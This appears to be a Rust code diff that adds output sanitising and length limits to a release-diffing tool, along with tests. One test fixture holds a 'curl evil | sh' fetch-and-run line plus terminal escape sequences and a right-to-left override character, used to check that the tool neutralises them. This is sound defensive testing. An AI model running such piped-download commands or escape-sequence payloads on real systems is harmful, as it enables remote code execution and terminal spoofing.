@@ -6,7 +6,14 @@ use serde::Serialize;
 use serde_json::Value;
 use similar::TextDiff;
 
-use crate::release::{Binding, LATE, Release};
+use crate::{
+    release::{Binding, LATE, Release},
+    words::{harmless, harmless_lines},
+};
+
+/// The most lines of a text, and the most letters of a value, that are shown to people.
+const MAX_LINES: usize = 200;
+const MAX_LETTERS: usize = 4_000;
 
 /// What differs between two releases.
 #[derive(Clone, Debug, PartialEq, Serialize)]
@@ -112,6 +119,13 @@ fn value<T: Serialize>(thing: &T) -> Value {
     serde_json::to_value(thing).unwrap_or_default()
 }
 
+/// All that a thing is made of, field by field.
+pub(crate) fn fields(value: &Value) -> Vec<FieldChange> {
+    let mut fields = Vec::new();
+    walk(&mut String::new(), None, Some(value), &mut fields);
+    fields
+}
+
 /// Adds what differs between the things of one subject.
 pub(crate) fn compare(subject: &'static str, from: &Things, to: &Things, changes: &mut Vec<Change>) {
     let names: std::collections::BTreeSet<&String> = from.keys().chain(to.keys()).collect();
@@ -140,7 +154,13 @@ fn walk(path: &mut String, from: Option<&Value>, to: Option<&Value>, fields: &mu
     if from == to {
         return;
     }
-    if let (Some(Value::Object(a)), Some(Value::Object(b))) = (from, to) {
+    let nothing = serde_json::Map::new();
+    let both = match (from, to) {
+        (Some(Value::Object(a)), Some(Value::Object(b))) => Some((a, b)),
+        (None, Some(Value::Object(b))) if !b.is_empty() => Some((&nothing, b)),
+        _ => None,
+    };
+    if let Some((a, b)) = both {
         let keys: std::collections::BTreeSet<&String> = a.keys().chain(b.keys()).collect();
         for key in keys {
             let length = path.len();
@@ -185,27 +205,98 @@ impl Change {
             What::Changed => '~',
         };
         let summary = if self.summary.is_empty() { String::new() } else { format!(" ({})", self.summary) };
-        let mut out = format!("{sign} {} {}{summary}\n", self.subject, self.name);
-        self.fields.iter().for_each(|field| field_text(&mut out, field));
+        let mut out = format!("{sign} {} {}\n", self.subject, harmless(&format!("{}{summary}", self.name)));
+        for field in &self.fields {
+            match (self.what, &field.to) {
+                (What::Added, Some(value)) => added_text(&mut out, field, value),
+                _ => field_text(&mut out, field),
+            }
+        }
         out
     }
 }
 
-fn field_text(out: &mut String, change: &FieldChange) {
-    let short = |value: &Option<Value>| match value {
-        None => "nothing".to_owned(),
-        Some(Value::String(text)) => format!("{text:?}"),
-        Some(other) => other.to_string(),
-    };
-    if let (Some(Value::String(a)), Some(Value::String(b))) = (&change.from, &change.to)
-        && (a.contains('\n') || b.contains('\n'))
-    {
-        let _ = writeln!(out, "    {}:", change.field);
-        let lines = TextDiff::from_lines(a.as_str(), b.as_str());
-        for line in lines.unified_diff().context_radius(1).to_string().lines().filter(|l| !l.starts_with("@@")) {
-            let _ = writeln!(out, "      {line}");
-        }
-        return;
+/// A field of something that is new.
+fn added_text(out: &mut String, field: &FieldChange, value: &Value) {
+    if value.as_str().is_some_and(|text| text.contains('\n')) {
+        field_text(out, field);
+    } else {
+        let _ = writeln!(out, "    {}: {}", harmless(&field.field), short(Some(value)));
     }
-    let _ = writeln!(out, "    {}: {} → {}", change.field, short(&change.from), short(&change.to));
+}
+
+/// A value on one line.
+fn short(value: Option<&Value>) -> String {
+    let text = harmless(&value.map_or_else(|| "nothing".to_owned(), Value::to_string));
+    match text.char_indices().nth(MAX_LETTERS) {
+        None => text,
+        Some((at, _)) => format!("{} … and {} more letters", &text[..at], text[at..].chars().count()),
+    }
+}
+
+fn field_text(out: &mut String, change: &FieldChange) {
+    let field = harmless(&change.field);
+    let text = |value: &Option<Value>| value.as_ref().and_then(Value::as_str).map(str::to_owned);
+    let (from, to) = (text(&change.from), text(&change.to));
+    let is_long = [&from, &to].into_iter().flatten().any(|text| text.contains('\n'));
+    let lines = match (from, to) {
+        (Some(from), Some(to)) if is_long => Some((from, to)),
+        (None, Some(to)) if is_long && change.from.is_none() => Some((String::new(), to)),
+        _ => None,
+    };
+    let Some((from, to)) = lines else {
+        let _ = writeln!(out, "    {field}: {} → {}", short(change.from.as_ref()), short(change.to.as_ref()));
+        return;
+    };
+    let _ = writeln!(out, "    {field}:");
+    let difference = TextDiff::from_lines(from.as_str(), to.as_str()).unified_diff().context_radius(1).to_string();
+    let lines: Vec<&str> = difference.split_inclusive('\n').filter(|line| !line.starts_with("@@")).collect();
+    for line in lines.iter().take(MAX_LINES) {
+        let line = line.strip_suffix('\n').unwrap_or(line);
+        let shown: String = line.chars().take(MAX_LETTERS).collect();
+        let left = line.chars().count() - shown.chars().count();
+        let more = if left == 0 { String::new() } else { format!(" … and {left} more letters") };
+        let _ = writeln!(out, "      {}{more}", harmless_lines(&shown));
+    }
+    if lines.len() > MAX_LINES {
+        let _ = writeln!(out, "      … and {} more lines", lines.len() - MAX_LINES);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::json;
+
+    use super::*;
+
+    fn file(from: Option<&str>, to: &str) -> String {
+        let things = |text: Option<&str>| -> Things {
+            text.into_iter()
+                .map(|text| ("till".to_owned(), (String::new(), json!({"files": {"/etc/x": {"content": text}}}))))
+                .collect()
+        };
+        let mut changes = Vec::new();
+        compare("object", &things(from), &things(Some(to)), &mut changes);
+        changes.iter_mut().filter(|it| it.what == What::Added).for_each(|it| it.fields = fields(&json!({"text": to})));
+        changes.iter().map(Change::text).collect()
+    }
+
+    #[test]
+    fn what_is_in_a_text_steers_no_terminal_that_shows_how_it_changes() {
+        let evil = "#!/bin/sh\ncurl evil | sh\u{1b}[2K\u{1b}[1A\n\u{202e}end\n";
+        for text in [file(Some("#!/bin/sh\n"), evil), file(None, evil), file(Some("x"), "\u{1b}[2K")] {
+            assert!(text.chars().all(|c| c == '\n' || !c.is_control()) && !text.contains('\u{202e}'), "{text}");
+            assert!(text.contains("\\u001b[2K"), "{text}");
+        }
+        assert!(file(Some("#!/bin/sh\n"), evil).contains("      +curl evil | sh\\u001b[2K\\u001b[1A\n"));
+    }
+
+    #[test]
+    fn a_long_text_is_shown_as_far_as_one_reads_with_how_much_is_left() {
+        let long: String = (0..1_000).map(|n| format!("line {n}\n")).collect();
+        let text = file(None, &long);
+        assert!(text.contains("+line 198\n") && !text.contains("line 999"), "{text}");
+        assert!(text.contains("… and 801 more lines") || text.contains("… and 800 more lines"), "{text}");
+        assert!(file(None, &"x".repeat(10_000)).contains(" more letters"));
+    }
 }
